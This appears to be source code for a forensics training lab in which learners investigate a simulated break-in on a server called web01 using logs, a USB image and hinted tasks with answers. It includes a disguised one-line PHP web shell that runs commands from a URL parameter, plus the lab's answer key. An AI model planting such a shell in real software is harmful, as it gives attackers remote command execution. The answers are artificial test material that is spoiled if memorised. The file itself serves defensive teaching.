import { Dice } from './dice.js';
import { type DemoLab, oneSpelling, ownFlag } from './lab.types.js';
import { accessLog, ACCOUNT, ATTACKER, authLog, egressLog, WEB_SHELL } from './web01-logs.js';

/** What the deleted file said. */
const DELETED_PASSWORD = 'monsoon-harvest-41';

const README = `Case 14-03: somebody broke into web01 on the night of 14 March 2026.

logs/auth.log      sign-ins by SSH
logs/access.log    what browsers asked the web server for
logs/egress.log    what web01 itself asked other computers for
www/               the web server's files
evidence/usb.img   a copy of the USB stick that lay beside the computer
`;

/** Answers a command that the address names. */
const SHELL_SCRIPT = `<?php
// Thumbnail cache, do not remove
if (isset($_GET['c'])) { echo shell_exec($_GET['c']); }
`;

/** An image of 256 kB: remains of files between empty blocks, one of them deleted. */
function usbImage(): Buffer {
  const dice = new Dice(77);
  const image = Buffer.alloc(256 * 1_024);
  image.write('\xeb\x3c\x90mkfs.fat', 0, 'latin1');
  image.write('WEB01-ADMIN', 43, 'latin1');
  for (let block = 0; block < 24; block++) dice.bytes(2_048).copy(image, 16_384 + block * 8_192);
  image.write('REPORT  DOC', 8_192, 'latin1');
  // FAT marks a deleted file by the first letter of its name.
  image.write('\xe5OTES   TXT', 8_224, 'latin1');
  image.write(`vault password: ${DELETED_PASSWORD}\n`, 131_072 + 4_177, 'latin1');
  return image;
}

export function whoEnteredWeb01(): DemoLab {
  return {
    name: 'Who entered web01?',
    files: {
      'README.txt': README,
      'logs/auth.log': authLog(),
      'logs/access.log': accessLog(),
      'logs/egress.log': egressLog('{{flag:token|base64}}'),
      'www/index.html': '<!doctype html>\n<title>web01</title>\n<h1>It works</h1>\n',
      'www/uploads/brochure.txt': 'Courses of the spring term.\n',
      [`www${WEB_SHELL}`]: SHELL_SCRIPT,
      'evidence/usb.img': usbImage(),
    },
    tasks: [
      {
        id: 'address',
        prompt:
          'Many addresses tried passwords on web01. **Which address logged in with a password?**\n\nStart with `logs/auth.log`.',
        points: 10,
        answer: oneSpelling(ATTACKER),
        hints: [
          {
            text: 'The loudest address is not the one that got in. How does the log name a success?',
            cost: 2,
          },
          { text: '`grep "Accepted password" logs/auth.log`', cost: 4 },
        ],
      },
      {
        id: 'account',
        prompt: 'Which account did they sign in to?',
        points: 10,
        answer: oneSpelling(ACCOUNT),
        hints: [{ text: 'It is in the same line as the address.', cost: 2 }],
      },
      {
        id: 'shell',
        prompt:
          'Afterwards they used a web shell: a page that runs commands. **What is its path on the web server?** Give it as a browser would ask for it, without the part after `?`.',
        points: 20,
        answer: oneSpelling(
          WEB_SHELL,
          WEB_SHELL.slice(1),
          `www${WEB_SHELL}`,
          `/home/learner/www${WEB_SHELL}`,
        ),
        hints: [
          { text: 'What did the same address ask the web server for? See `logs/access.log`.', cost: 4 },
          { text: 'Names that begin with a dot are hidden: `find www -name "*.php"`.', cost: 6 },
        ],
      },
      {
        id: 'token',
        prompt:
          'Something left web01: one request in `logs/egress.log` carries a secret to the attacker, encoded. **Decode it.** The flag looks like `TRIAD{…}`.',
        points: 30,
        answer: ownFlag(),
        hints: [
          { text: 'Look for the attacker’s address. What follows `d=` is base64.', cost: 6 },
          { text: '`grep -o "d=[^ ]*" logs/egress.log | cut -d= -f2- | base64 -d`', cost: 10 },
        ],
      },
      {
        id: 'deleted',
        prompt:
          'A file on the USB stick was deleted, but its text is still in `evidence/usb.img`. **Which password did it name?**',
        points: 30,
        answer: oneSpelling(DELETED_PASSWORD),
        hints: [
          { text: '`strings` shows the readable parts of any file.', cost: 6 },
          { text: '`strings evidence/usb.img | grep -i password`', cost: 10 },
        ],
      },
    ],
  };
}
